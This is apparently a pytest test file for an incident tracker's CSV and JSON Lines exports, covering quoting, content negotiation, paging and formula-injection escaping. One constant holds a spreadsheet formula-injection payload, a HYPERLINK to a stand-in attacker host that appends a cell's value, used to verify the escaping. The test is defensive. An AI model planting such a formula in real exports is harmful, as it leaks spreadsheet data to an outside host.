"""CSV and JSON Lines: what a reader of either gets back, and what a spreadsheet must not calculate."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from application.tables import ENTRIES, FORMULAS, INCIDENTS, Format, csv_of, jsonl_of
from application.views import IncidentView
from tests.support.commandline import Tally
from tests.support.engines import COMMANDER, RATIONALE, RESPONDER, Client, client_in

HOSTILE = '=HYPERLINK("http://evil.example/"&A1,"x")'


class Line(msgspec.Struct, frozen=True):
    """A row of a table."""

    text: str
    number: int | None = None
    flag: bool = False
    names: tuple[str, ...] = ()


COLUMNS = ("text", "number", "flag", "names")


def parsed(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline=""), strict=True))


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Client]:
    with client_in(tmp_path_factory.mktemp("tables") / "home") as found:
        incident = found.open(title=HOSTILE)
        for action, body in (
            ("declare", {"rationale": RATIONALE}),
            ("add-timeline-entry", {"text": 'Moved ⟦ it, "quoted", to region B.'}),
        ):
            assert found.post(f"/v1/incidents/{incident}/actions/{action}", body).status_code == 200
        found.open(title="Second", services=["a", "b"])
        found.open(title="Third, restricted", visibility="restricted")
        yield found


def test_csv_has_a_header_crlf_and_quotes_where_they_are_needed() -> None:
    rows = [Line('a "b", c', 3, True, ("x", "y")), Line("zwei\nZeilen ü")]
    assert csv_of(COLUMNS, rows) == (
        b'text,number,flag,names\r\n"a ""b"", c",3,true,x; y\r\n"zwei\nZeilen \xc3\xbc",,false,\r\n'
    )


@pytest.mark.parametrize("begin", FORMULAS)
def test_a_cell_that_begins_like_a_formula_is_no_formula(begin: str) -> None:
    _, (text, _, _, names) = parsed(csv_of(COLUMNS, [Line(f"{begin}1+1", names=(f"{begin}x",))]))
    assert text == f"'{begin}1+1"
    assert names == f"'{begin}x"


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00⟦"))))
def test_whatever_is_written_is_read_again_and_begins_like_no_formula(texts: list[str]) -> None:
    _, *rows = parsed(csv_of(("text",), map(Line, texts)))
    for text, row in zip(texts, rows, strict=True):
        cell = row[0] if row else ""
        assert not cell.startswith(FORMULAS)
        assert cell in (text, f"'{text}")


def test_json_lines_are_json_a_line_each() -> None:
    data = jsonl_of([Line("a\nb"), Line("c")])
    assert [json.loads(line)["text"] for line in data.decode().splitlines()] == ["a\nb", "c"]
    assert data.endswith(b"\n")
    assert jsonl_of([]) == b""


def test_the_columns_are_all_that_a_row_says() -> None:
    assert set(INCIDENTS) == {*IncidentView.__struct_fields__} - {"alerts"}
    assert {"time", "recordedtime", "reported_late", "text"} < set(ENTRIES)


def test_the_timeline_is_csv_json_lines_and_json(client: Client) -> None:
    path = "/v1/incidents/INC-1/timeline"
    whole = client.get(path)
    entries = whole.json()["entries"]
    lines = client.get(f"{path}?format=jsonl")
    assert [json.loads(line) for line in lines.text.splitlines()] == entries
    table = client.get(f"{path}?format=csv")
    heads, *rows = parsed(table.content)
    assert tuple(heads) == ENTRIES
    assert [int(row[heads.index("version")]) for row in rows] == [entry["version"] for entry in entries]
    assert rows[-1][heads.index("text")].startswith('Moved ⟦ it, "quoted", to region B.')
    for answer in (whole, lines, table):
        assert answer.headers["etag"] == whole.headers["etag"]
        assert answer.headers["vary"] == "Accept"
    assert table.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert table.headers["content-disposition"] == 'attachment; filename="INC-1-timeline.csv"'
    assert lines.headers["content-type"] == "application/jsonl"
    first = parsed(client.get(f"{path}?format=csv&at_version=1").content)
    assert len(first) == 2


def test_the_list_is_a_table_of_what_the_reader_may_see(client: Client) -> None:
    for token, numbers in ((COMMANDER, ["INC-1", "INC-2", "INC-3"]), (RESPONDER, ["INC-1", "INC-2"])):
        heads, *rows = parsed(client.get("/v1/incidents?format=csv", token=token).content)
        assert [row[heads.index("number")] for row in rows] == numbers
        lines = client.get("/v1/incidents?format=jsonl", token=token).text.splitlines()
        assert [json.loads(line)["number"] for line in lines] == numbers
    assert rows[0][heads.index("title")] == f"'{HOSTILE}"
    assert rows[1][heads.index("services")] == "a; b"
    assert rows[1][heads.index("declared_at")] == ""


def test_the_next_page_of_a_table_is_a_link(client: Client) -> None:
    first = client.get("/v1/incidents?format=csv&limit=2&environment=production")
    assert len(parsed(first.content)) == 3
    address, _, relation = first.headers["link"].partition(">; ")
    assert relation == 'rel="next"'
    rest = client.get(address.removeprefix("<"))
    assert [row[0] for row in parsed(rest.content)[1:]] == ["INC-3"]
    assert "link" not in rest.headers
    assert "link" not in client.get("/v1/incidents?limit=2").headers


@pytest.mark.parametrize(
    ("accept", "kind"),
    [
        ("*/*", "application/json"),
        ("text/csv", "text/csv"),
        ("application/json, text/csv;q=0.9", "application/json"),
        ("application/json;q=0.5, TEXT/CSV", "text/csv"),
        ("application/x-ndjson", "application/jsonl"),
        ("text/html, */*;q=0.1", "application/json"),
        ("text/csv;q=0", "application/json"),
        ("text/csv;q=x, application/json;q=0.1", "application/json"),
        ("", "application/json"),
        (",;", "application/json"),
    ],
)
def test_without_a_format_the_form_is_the_one_that_accept_prefers(
    client: Client, accept: str, kind: str
) -> None:
    answer = client.get("/v1/incidents", headers={"Accept": accept})
    assert answer.headers["content-type"].partition(";")[0] == kind


@pytest.mark.parametrize("form", ["json", "csv", "jsonl"])
def test_a_format_that_is_asked_for_wins_over_accept(client: Client, form: Format) -> None:
    answer = client.get(
        f"/v1/incidents?format={form}", headers={"Accept": "text/csv, application/json;q=0.1"}
    )
    expected = {"json": "application/json", "csv": "text/csv", "jsonl": "application/jsonl"}[form]
    assert answer.headers["content-type"].partition(";")[0] == expected
    assert client.get("/v1/incidents?format=xlsx").json()["code"] == "QUERY_INVALID"


def test_the_command_line_prints_the_same_bytes(client: Client) -> None:
    tally: Any = Tally(client.home)
    for form in ("csv", "jsonl"):
        listed = client.get(f"/v1/incidents?format={form}").text
        assert tally("show", f"--{form}").fine().out == listed
        lines = client.get(f"/v1/incidents/INC-1/timeline?format={form}").text
        assert tally("timeline", "INC-1", f"--{form}").fine().out == lines


@pytest.mark.parametrize(
    "words",
    [
        ("show", "INC-1", "--csv"),
        ("show", "--csv", "--jsonl"),
        ("timeline", "INC-1", "--csv", "--json"),
        ("timeline", "INC-1", "--canonical", "--jsonl"),
        ("replay", "INC-1", "--canonical", "--json"),
    ],
)
def test_one_form_at_a_time(client: Client, words: tuple[str, ...]) -> None:
    assert Tally(client.home)(*words).code == 64
